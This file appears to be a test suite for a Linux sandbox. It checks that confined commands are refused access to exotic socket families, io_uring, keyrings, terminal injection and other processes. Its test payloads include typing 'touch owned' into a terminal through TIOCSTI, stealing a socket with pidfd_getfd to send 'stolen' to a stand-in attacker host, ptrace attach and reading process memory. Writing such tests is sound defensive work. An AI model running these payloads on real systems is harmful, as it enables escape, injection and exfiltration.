# SPDX-License-Identifier: Apache-2.0
"""What COMMAND could use besides IP sockets of its own: other families, io_uring, keyrings, its caller's terminal,
and other processes of the same user."""

import os
import sys

from harness import Skip, case, contains, equal, refused, worked
from plan import EVIL4, GITHUB4, JOB, JOB_ID

ALLOW = ["--allow-cidr", f"{GITHUB4}:7"]
SYSTEM_CALLS = """
        import ctypes, platform
        libc = ctypes.CDLL(None, use_errno=True)
        x86 = platform.machine() == "x86_64"
        NR = dict(socket=41 if x86 else 198, socketpair=53 if x86 else 199, ioctl=16 if x86 else 29,
                  add_key=248 if x86 else 217, request_key=249 if x86 else 218, keyctl=250 if x86 else 219,
                  process_vm_readv=310 if x86 else 270, io_uring_setup=425, pidfd_open=434, pidfd_getfd=438)
        def call(name, *arguments):
            result = libc.syscall(ctypes.c_long(NR[name]), *(ctypes.c_long(a) if isinstance(a, int) else a
                                                             for a in arguments))
            if result < 0:
                raise OSError(ctypes.get_errno(), name)
            return result
"""


@case("C5 C6 families without hooks, such as PPPoX, VSOCK, TIPC and XDP, are refused as if the kernel had none")
def families(lab):
    source = SYSTEM_CALLS + """
        passed = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK, socket.AF_PACKET, socket.AF_ALG}
        pair = (ctypes.c_int * 2)()
        def outcome(name, family, *more):
            fact = attempt(call, name, family, *more)
            if "value" in fact and name == "socket":
                os.close(fact["value"])
            return fact.get("errno", "created")
        made = {}
        for family in range(64):
            for kind in 1, 2, 3, 5:
                for value in family, family | 1 << 32:
                    for outcomes in outcome("socket", value, kind, 0), outcome("socketpair", value, kind, 0, pair):
                        made.setdefault(str(family), set()).add(outcomes)
        others = {family: sorted(outcomes) for family, outcomes in made.items() if int(family) not in passed}
        report(others={family: outcomes for family, outcomes in others.items() if outcomes != ["EAFNOSUPPORT"]})
        report(local=attempt(lambda: len(socket.socketpair())), tcp=attempt(tcp, GITHUB4, 7),
               netlink=attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()))
"""
    for user in JOB, "root":
        r = lab.attack(ALLOW, source, user=user)
        worked(r, "local", "netlink", "tcp")
        equal(r.facts["others"], {}, f"families that {user} can use")
    # one that users can have, and that loads no odd module into a developer's machine
    vsock = lab.plain(*lab.python("report(vsock=attempt(lambda: socket.socket(socket.AF_VSOCK).close()))"))
    if "value" not in vsock.facts["vsock"]:
        raise Skip("this kernel has no VSOCK, with or without cargowall")


@case("D2 io_uring, which creates sockets of any family unseen, is refused as if the kernel had none")
def io_uring(lab):
    source = SYSTEM_CALLS + """
        parameters = ctypes.create_string_buffer(120)
        report(ring=attempt(call, "io_uring_setup", 1, parameters))
"""
    for user in JOB, "root":
        refused(lab.attack(ALLOW, source, user=user), "ring", error="ENOSYS")
    if "value" not in lab.plain(*lab.python(source)).facts["ring"]:
        raise Skip("io_uring is switched off in this kernel")


@case("C8 kernel keyrings, whose upcalls look names up as root, are refused as if the kernel had none")
def keyrings(lab):
    r = lab.attack(ALLOW, SYSTEM_CALLS + """
        report(add=attempt(call, "add_key", b"user", b"name", b"value", 5, -2),
               request=attempt(call, "request_key", b"dns_resolver", b"secret.evil.example", b"", -2),
               keyctl=attempt(call, "keyctl", 0, -3, 0))
""")
    refused(r, "add", "request", "keyctl", error="ENOSYS")


TERMINAL = """
import os, pty, sys

pid, fd = pty.fork()
if pid == 0:
    run = os.fork()
    if run == 0:
        os.execv(sys.argv[1], sys.argv[1:])
    os.waitpid(run, 0)
    import select
    typed = os.read(0, 100) if select.select([0], [], [], 0.2)[0] else b""
    print("TYPED", typed, flush=True)
    os._exit(0)
out = b""
while True:
    try:
        data = os.read(fd, 4096)
    except OSError:
        break
    if not data:
        break
    out += data
sys.stdout.buffer.write(out)
"""
TYPE = """
        import termios
        TIOCLINUX = 0x541c
        def type_text(request, upper_bits=0):
            for byte in b"touch owned\\n":
                call("ioctl", 0, request | upper_bits << 32, ctypes.create_string_buffer(bytes([byte])))
        report(type=attempt(type_text, termios.TIOCSTI), upper=attempt(type_text, termios.TIOCSTI, 1),
               console=attempt(type_text, TIOCLINUX))
"""


@case("C8 nothing can be typed into the terminal of the caller")
def terminal(lab):
    try:
        for fd in os.openpty():
            os.close(fd)
    except OSError:
        raise Skip("no pseudo terminal can be opened here") from None
    command = lab.python(SYSTEM_CALLS + TYPE)
    for user in JOB, "root":
        r = lab.plain(sys.executable, "-c", TERMINAL, lab.binary, "run", "--summary", "none", "--user", user, *ALLOW,
                      "--", *command)
        contains(r.out, "TYPED b''", "input of the caller")
        refused(r, "type", "upper", "console")
    r = lab.plain(sys.executable, "-c", TERMINAL, command[0], *command[1:])
    if "touch owned" not in r.out:
        raise Skip("this kernel does not let users type into terminals (dev.tty.legacy_tiocsti)")


OTHER = """
import os, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print(os.getpid(), s.fileno(), flush=True)
sys.stdin.read()
"""
REACH = SYSTEM_CALLS + """
        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
        def steal(pid, fd):
            pidfd = os.pidfd_open(pid)
            with socket.socket(fileno=call("pidfd_getfd", pidfd, fd, 0)) as s:
                return s.sendto(b"stolen", (EVIL4, 7))
        def trace(pid):
            if libc.ptrace(16, pid, 0, 0) < 0:  # PTRACE_ATTACH
                raise OSError(ctypes.get_errno(), "ptrace")
            os.waitpid(pid, 0)
            libc.ptrace(17, pid, 0, 0)
        def memory(pid):
            byte = ctypes.create_string_buffer(1)
            own = Vector(ctypes.addressof(byte), 1)
            return call("process_vm_readv", pid, ctypes.byref(own), 1, ctypes.byref(own), 1, 0)
        def outcomes(pid, fd):
            return dict(steal=attempt(steal, pid, fd), trace=attempt(trace, pid), memory=attempt(memory, pid),
                        root=attempt(lambda: len(os.listdir(f"/proc/{pid}/root/"))),
                        directory=attempt(lambda: len(os.listdir(f"/proc/{pid}/cwd/"))),
                        descriptor=attempt(os.readlink, f"/proc/{pid}/fd/{fd}"),
                        namespace=attempt(os.readlink, f"/proc/{pid}/ns/mnt"))
"""


def other_process(lab):
    other = lab.start_plain(["setpriv", f"--reuid={JOB_ID}", f"--regid={JOB_ID}", "--clear-groups", "/usr/bin/python3",
                             "-c", OTHER])
    return other, *map(int, other.read_line().split())


@case("C9 other processes of the same user, with their sockets and mounts, are out of reach")
def other_processes(lab):
    other, pid, fd = other_process(lab)
    source = REACH + f"        report(**outcomes({pid}, {fd}))"
    r = lab.attack(ALLOW, source)
    if "Landlock" in r.err:
        raise Skip("this kernel has no Landlock that fits")
    plain = lab.plain("setpriv", f"--reuid={JOB_ID}", f"--regid={JOB_ID}", "--clear-groups", *lab.python(source))
    other.finish()
    equal(r.status, 0, "exit status")
    for name, fact in r.facts.items():
        assert fact.get("errno") in ("EPERM", "EACCES"), f"{name}: {fact}"
    assert any("value" in fact for fact in plain.facts.values()), f"none is possible outside either: {plain.facts}"
    equal(lab.packets(EVIL4), 1 if "value" in plain.facts["steal"] else 0, "packets, all sent outside")


@case("COMMAND's processes can still trace each other, mount in a namespace and leave user namespaces to containers")
def own_processes(lab):
    r = lab.attack(ALLOW, REACH + """
        child = os.fork()
        if child == 0:
            time.sleep(60)
        report(**outcomes(child, 0))
        os.kill(child, 9)
""")
    for name in set(r.facts) - {"steal"}:  # of what is no socket
        worked(r, name)
    how = ["unshare", "--user", "--map-root-user", "--mount"]
    script = ["sh", "-c", "mount -t tmpfs none /mnt && mount --bind /mnt /tmp && touch /tmp/made && ls /mnt"]
    if lab.plain("setpriv", f"--reuid={JOB_ID}", f"--regid={JOB_ID}", "--clear-groups", *how, *script).status:
        raise Skip("users cannot mount in namespaces of their own here")
    equal(lab.run([*ALLOW, "--summary", "none"], [*how, *script]).out, "made\n", "output")
